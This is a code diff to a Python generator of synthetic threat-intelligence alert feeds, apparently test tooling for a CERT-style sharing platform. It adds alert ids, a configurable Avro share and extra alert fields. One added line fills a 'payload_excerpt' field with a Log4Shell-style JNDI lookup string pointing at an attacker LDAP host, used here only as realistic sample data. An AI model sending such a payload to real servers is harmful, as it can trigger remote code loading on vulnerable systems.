@@ -45,6 +45,7 @@ class FeedRecord:
     headers: tuple[tuple[str, bytes], ...]
     kind: str  # "unique", "duplicate" or one of BAD_KINDS
     serial: int  # the unique alert it reports (for duplicates, the original's serial); -1 if bad
+    alert_id: str = ""  # the alert's id (members receive it as the record key); "" if bad
 
 
 _INSIDE = (
@@ -77,6 +78,7 @@ class SampleFeed:
         bad_ratio: float = 0.01,
         now: datetime | None = None,
         max_message_bytes: int = 512 * 1024,
+        avro_share: float = 1 / 3,
     ) -> None:
         self.members = [m for m in members if m.constituency.cidrs]
         self.rng = random.Random(seed)
@@ -84,6 +86,7 @@ class SampleFeed:
         self.bad_ratio = bad_ratio
         self.now = now or datetime.now(UTC)
         self.max_message_bytes = max_message_bytes
+        self.avro_permille = round(avro_share * 1000)
         self.serial_base = seed * 10_000_000
         self._issued = 0  # unique alerts made so far: later calls continue, never repeat
 
@@ -125,10 +128,11 @@ class SampleFeed:
 
     def _record(self, alert: dict[str, Any], kind: str, serial: int) -> FeedRecord:
         feed = f"{alert['feed']['provider']}/{alert['feed']['name']}".encode()
-        if serial % 3 == 0:  # a third of the partners send Avro
+        if serial % 1000 < self.avro_permille:  # some partners send Avro, the others JSON
             value = alert_codec().encode(build_alert(alert, now=self.now))
-            return FeedRecord(value, (("format", b"alert-avro"), ("feed", feed)), kind, serial)
-        return FeedRecord(orjson.dumps(alert), (("format", b"alert-json"), ("feed", feed)), kind, serial)
+            return FeedRecord(value, (("format", b"alert-avro"), ("feed", feed)), kind, serial, alert["id"])
+        headers = (("format", b"alert-json"), ("feed", feed))
+        return FeedRecord(orjson.dumps(alert), headers, kind, serial, alert["id"])
 
     def _alert(self, serial: int) -> dict[str, Any]:
         rng = self.rng
@@ -158,6 +162,13 @@ class SampleFeed:
                 "source": {"ip": victim if infected else attacker, "port": 1024 + serial % 60000},
                 "destination": {"ip": attacker if infected else victim, "port": rng.choice((22, 443, 445))},
                 "protocol": {"transport": "tcp", "application": rng.choice(("ssh", "https", "smb"))},
+                "description": f"{ident}: {kind.replace('-', ' ')} involving {victim} ({member.name})",
+                "references": [f"https://advisories.example/{origin}/{serial % 9973}"],
+                "extra": {
+                    "rule_id": str(2_000_000 + serial % 99_991),
+                    "packets": str(1 + serial % 97),
+                    "payload_excerpt": f"GET /{serial:x}/${{jndi:ldap://{attacker}:1389/a}} HTTP/1.1",
+                },
             }
             if base["tlp"] == "RED":
                 base["recipients"] = [member.id]
@@ -181,7 +192,12 @@ class SampleFeed:
             "tlp": "GREEN",
             "sectors": [sector],
             "indicators": [{"type": indicator, "value": value}, {"type": "ipv4", "value": attacker}],
-            "description": f"Infrastructure targeting the {sector} sector",
+            "description": f"Infrastructure targeting the {sector} sector, seen in recent campaigns",
+            "references": [
+                f"https://reports.example/{taxonomy}/{serial % 9973}",
+                f"https://intel.example/indicators/{serial:x}",
+            ],
+            "extra": {"campaign": f"{malware or 'phish'}-{serial % 17}", "first_reported_by": "partner-cert"},
         }
         if malware:
             base["malware"] = {"name": malware, "hashes": {"sha256": f"{serial:064x}"}}
